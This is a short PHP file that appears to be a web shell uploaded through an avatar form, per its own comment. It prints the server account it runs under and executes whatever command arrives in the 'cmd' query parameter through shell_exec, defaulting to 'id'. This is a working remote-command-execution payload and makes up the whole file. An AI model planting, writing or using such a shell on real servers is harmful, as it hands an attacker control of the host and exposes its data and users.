<?php
// What a visitor sent as an "avatar": any command line, run on the server.
echo 'RAN', ' AS ', strtoupper(posix_getpwuid(posix_geteuid())['name']), "\n";
echo shell_exec($_GET['cmd'] ?? 'id');
